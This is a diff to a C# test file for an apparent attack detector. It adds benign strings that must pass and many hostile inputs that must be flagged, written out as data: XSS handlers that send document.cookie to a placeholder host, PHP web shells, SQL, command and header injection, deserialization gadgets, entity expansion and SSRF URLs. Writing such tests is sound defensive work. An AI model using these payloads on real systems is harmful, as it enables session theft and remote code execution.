@@ -77,6 +77,63 @@ public class HonestTextTests
     [InlineData("/// See notes on operators. /// more")]
     public void TemplatesQueriesAndDocuments(string value) => AssertPasses(value);
 
+    [Theory]
+    [InlineData("<?php foreach ($rows as $row) { echo \"<td>$row</td>\"; } ?>")]
+    [InlineData("<?= $order->total ?> is empty but <?= $order->id ?> is not")]
+    [InlineData("<?php the_post(); ?> shows the wrong page")]
+    public void PagesOfPhpRunNothingTheyAreHanded(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("SELECT 4; DROP TABLE tmp_colors;")]
+    [InlineData("CREATE TABLE t (id int); INSERT INTO t VALUES (4); SELECT count(*) FROM t;")]
+    [InlineData("Why does SELECT * FROM rooms WHERE floor = 1 OR floor = 2 use no index?")]
+    [InlineData("nap; sleep(9h), back at six")]
+    [InlineData("Gasversorgungsunternehmen")]
+    [InlineData("Ganchillo 72, 1-A")]
+    public void WholeStatementsWerePutIntoNoOther(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("30 4 * * 0 borg create /mnt/b::{now} /srv | logger")]
+    [InlineData("for f in *.flac; do opusenc \"$f\" out; done")]
+    [InlineData("cut -d, -f2 rooms.csv | sort | uniq -c")]
+    [InlineData("run `make docs; make check` before you push")]
+    [InlineData("{{ $value | printf \"%.1f\" }} degrees in {{ $labels.room }}")]
+    public void LinesThatBeginWithTheirOwnProgram(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("<button class=\"b\" onclick=\"pickColor('red', 4)\">red</button>")]
+    [InlineData("<a href=\"#\" onclick=\"return confirm('Remove this room?')\">x</a>")]
+    [InlineData("<input onfocus=\"this.value=''\" value=\"Room\">")]
+    [InlineData("<script type=\"application/ld+json\">{\"@type\":\"Hotel\",\"name\":\"Blue\"}</script>")]
+    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h9v9'/></svg>")]
+    [InlineData("<script src=\"/assets/room.js\" defer></script>")]
+    [InlineData("<script>var rooms = rooms || []; rooms.push(['visit', 4]);</script>")]
+    public void HandlersAndDataOfThePageItself(string value) => AssertPasses(value);
+
+    [Theory]
+    [InlineData("<button onclick=\"fetch('//q.example/'+document.cookie)\">red</button>")]
+    [InlineData("<a onclick=\"return confirm(1)\">x</a>")]
+    [InlineData("<img src=q onerror=\"this.src='//q.example/?'+document.cookie\">")]
+    [InlineData("<a onclick=\"location.href='//q.example'\">x</a>")]
+    [InlineData("<script type=\"application/ld+json\">{}</script><script>alert(4)</script>")]
+    [InlineData("<script>top['al'+'ert'](4)</script>")]
+    [InlineData("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(4)</script></svg>")]
+    [InlineData("<script src=\"//q.example/room.js\"></script>")]
+    [InlineData("<script src=\"/assets/room.js\">alert(4)</script>")]
+    public void HandlersAndDataThatReachFurther(string value) => Assert.True(Value(value).IsAttack, value);
+
+    [Theory]
+    [InlineData("{\"height\":{\"$gte\":4,\"$ne\":9}}", false)]
+    [InlineData("{\"password\":{\"$not\":{\"$eq\":\"q\"}}}", true)]
+    [InlineData("{\"@type\":\"javax.swing.JEditorPane\",\"page\":\"http://q.example\"}", true)]
+    [InlineData("{\"@type\":\"Hotel\",\"name\":\"Blue\"}", false)]
+    [InlineData("--- !ruby/object:Gem::Requirement\nrequirements: q", true)]
+    [InlineData("gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVt", true)]
+    [InlineData("--q\n<script>alert(4)</script>", true)]
+    [InlineData("<!DOCTYPE d [<!ENTITY nbsp \"&#160;\">]><d>4&nbsp;m</d>", false)]
+    [InlineData("<!DOCTYPE d [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><d>&b;</d>", true)]
+    public void Bodies(string body, bool expected) => Assert.Equal(expected, Request(body: body).IsAttack);
+
     [Fact]
     public void AVerbOfAProtocolIsNoCommand()
     {
@@ -121,6 +178,19 @@ public class HonestTextTests
     [InlineData("'||this.user=='admin")]
     [InlineData("')] | //password\0")]
     [InlineData("<%eval request(\"pass\")%>")]
+    [InlineData("<?php system($_GET['q']); ?>")]
+    [InlineData("<?= `id` ?>")]
+    [InlineData("<?php print(4); ?>")]
+    [InlineData("<?php include($_GET['page']); ?>")]
+    [InlineData("';phpinfo();//")]
+    [InlineData("4 AND 8-3=5")]
+    [InlineData("4;SELECT sleep(9)")]
+    [InlineData("report.pdf\"; touch /tmp/q; \"")]
+    [InlineData("abc`sleep 9`")]
+    [InlineData(";ifconfig eth3")]
+    [InlineData("red\"&whoami&\"")]
+    [InlineData("[k for k in ().__class__.__base__.__subclasses__()]")]
+    [InlineData("q@b.example\r\nRCPT TO:<v@b.example>")]
     public void AttacksBesideThem(string value) => Assert.True(Value(value).IsAttack, value);
 
     [Theory]
@@ -129,6 +199,7 @@ public class HonestTextTests
     [InlineData("redirect_uri=https://good.example@attacker.example/")]
     [InlineData("url=http://0/admin")]
     [InlineData("url=http://127.0.0.1:6379/")]
+    [InlineData("url=http://[::ffff:127.0.0.1]/")]
     [InlineData("__proto__[isAdmin]=1")]
     [InlineData("constructor[prototype][role]=admin")]
     public void Parameters(string query)
